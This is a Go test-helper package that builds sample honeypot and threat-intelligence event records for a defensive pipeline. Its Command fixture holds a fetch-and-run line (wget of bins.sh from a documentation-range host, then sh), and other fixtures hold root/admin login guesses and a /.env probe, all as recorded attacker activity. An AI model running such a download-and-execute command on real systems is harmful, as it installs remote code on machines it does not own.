package schematest

import (
	"net/netip"
	"time"

	"github.com/google/uuid"

	"github.com/ttpstream/ttpstream/schemas"
)

// What every default record agrees on.
const (
	// SrcIP is the attacker's address, of a documentation network.
	SrcIP = "198.51.100.7"
	// Sensor is the sensor's name.
	Sensor = "hp-1"
	// SessionID is the connection's id.
	SessionID = "a1b2c3d4e5f6"
)

// Time is when every default record happened.
var Time = time.Date(2026, 4, 14, 12, 0, 0, 123456000, time.UTC)

// Attacker returns the anchor of an address. It panics when addr is none.
func Attacker(addr string) uuid.UUID { return schemas.AttackerID(netip.MustParseAddr(addr)) }

// ID returns an id made of a word: the same word, the same id.
func ID(word string) uuid.UUID { return uuid.NewSHA1(uuid.NameSpaceOID, []byte(word)) }

// Envelope returns the default envelope of a source kind, without event id.
func Envelope(kind schemas.SourceKind) schemas.Envelope {
	return schemas.Envelope{
		EventTime: Time, SourceKind: kind, Sensor: Sensor,
		AttackerUUID: Attacker(SrcIP), SessionID: SessionID,
	}
}

// Command returns a line that fetches and runs a script.
func Command(changes ...func(*schemas.CommandEvent)) *schemas.CommandEvent {
	return fact(&schemas.CommandEvent{
		Envelope: Envelope(schemas.KindCommand), SrcIP: SrcIP, Protocol: "ssh",
		Command: "cd /tmp; wget http://203.0.113.9/bins.sh; sh bins.sh",
	}, changes)
}

// Auth returns a refused login by password.
func Auth(changes ...func(*schemas.AuthEvent)) *schemas.AuthEvent {
	return fact(&schemas.AuthEvent{
		Envelope: Envelope(schemas.KindAuthAttempt), SrcIP: SrcIP, SrcPort: 40022, Protocol: "ssh",
		Method: "password", Username: "root", Password: "admin",
	}, changes)
}

// HTTP returns a request for a file that should not be public.
func HTTP(changes ...func(*schemas.HTTPEvent)) *schemas.HTTPEvent {
	return fact(&schemas.HTTPEvent{
		Envelope: Envelope(schemas.KindHTTPRequest), SrcIP: SrcIP,
		Method: "GET", Scheme: "http", Host: "203.0.113.10", Port: 80, Path: "/.env", UserAgent: "curl/8.5.0", Status: 404,
	}, changes)
}

// Session returns the start of a connection.
func Session(changes ...func(*schemas.SessionEvent)) *schemas.SessionEvent {
	return fact(&schemas.SessionEvent{
		Envelope: Envelope(schemas.KindSession), Activity: schemas.ActivityConnect, SensorEvent: "cowrie.session.connect",
		Protocol: "ssh", SrcIP: SrcIP, SrcPort: 40022, DstIP: "192.0.2.1", DstPort: 2222,
	}, changes)
}

// Transfer returns a download that succeeded.
func Transfer(changes ...func(*schemas.TransferEvent)) *schemas.TransferEvent {
	return fact(&schemas.TransferEvent{
		Envelope: Envelope(schemas.KindTransfer), Direction: schemas.TransferDownload, Success: true,
		Protocol: "ssh", SrcIP: SrcIP, URL: "http://203.0.113.9/bins.sh", Filename: "bins.sh",
		SHA256: "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210", Size: 2048,
	}, changes)
}

// Intel returns a provider's verdict that the address is malicious.
func Intel(changes ...func(*schemas.IntelEvent)) *schemas.IntelEvent {
	return fact(&schemas.IntelEvent{
		Envelope: Envelope(schemas.KindIntelVerdict), SrcIP: SrcIP,
		Provider: schemas.ProviderAbuseIPDB, Verdict: "18,22", Score: new(0.9), Categories: []string{"18", "22"},
	}, changes)
}

// Email returns a message whose sender fails its checks.
func Email(changes ...func(*schemas.EmailEvent)) *schemas.EmailEvent {
	return fact(&schemas.EmailEvent{
		Envelope: Envelope(schemas.KindEmail), SrcIP: SrcIP,
		FromDomain: "bank.example", ReturnPathDomain: "mailer.example", SPF: "fail", DKIM: "none", DMARC: "fail",
		HeaderNames: []string{"Received", "From", "Subject"}, ReceivedHops: 2,
		RecipientCount: 3, RecipientDomains: []string{"corp.example"}, URLHosts: []string{"xn--bnk-sna.example"},
		Traits: []string{"url.punycode"},
	}, changes)
}

// Canary returns a hit on a planted cloud key.
func Canary(changes ...func(*schemas.CanaryEvent)) *schemas.CanaryEvent {
	return fact(&schemas.CanaryEvent{
		Envelope: Envelope(schemas.KindCanary), SrcIP: SrcIP, TokenType: "aws_keys", TokenID: "token-1",
		UserAgent: "aws-cli/2.15",
	}, changes)
}

// Behaviour returns a verdict of brute force.
func Behaviour(changes ...func(*schemas.BehaviourEvent)) *schemas.BehaviourEvent {
	return fact(&schemas.BehaviourEvent{
		Envelope: Envelope(schemas.KindBehaviour), Class: "brute_force", ToolGuesses: []string{"hydra"}, Confidence: 0.8,
		WindowStart: Time.Add(-time.Minute), WindowEnd: Time, Profiler: "ttpstream",
	}, changes)
}

// fact applies the changes and, unless one of them did, sets the event id.
func fact[T any, P interface {
	*T
	schemas.Eventer
}](event P, changes []func(P)) P {
	event = changed(event, changes)
	if envelope := event.Event(); envelope.EventID == uuid.Nil {
		raw, err := schemas.EncodeJSON(event)
		if err != nil {
			raw = []byte(err.Error()) // a test of what cannot be encoded
		}
		envelope.EventID = schemas.EventID(raw, schemas.EventPart{})
	}
	return event
}

func changed[P any](record P, changes []func(P)) P {
	for _, change := range changes {
		change(record)
	}
	return record
}
